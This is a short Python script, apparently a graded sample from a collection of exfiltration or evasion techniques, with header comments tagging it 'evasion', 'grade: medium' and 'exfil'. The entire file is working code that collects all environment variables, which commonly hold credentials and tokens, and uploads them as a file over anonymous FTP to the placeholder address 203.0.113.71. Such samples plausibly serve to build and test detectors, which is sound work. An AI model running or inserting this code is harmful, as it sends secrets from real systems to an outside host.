# evasion: the environment is uploaded as a file over FTP (ftplib.storbinary of an in-memory buffer)
# grade: medium; does: exfil
import ftplib
import io
import os

buf = io.BytesIO()
for key, value in os.environ.items():
    buf.write(f"{key}={value}\n".encode())
buf.seek(0)

ftp = ftplib.FTP("203.0.113.71", timeout=10)
ftp.login("anonymous", "guest@")
ftp.storbinary("STOR env.txt", buf)
ftp.quit()
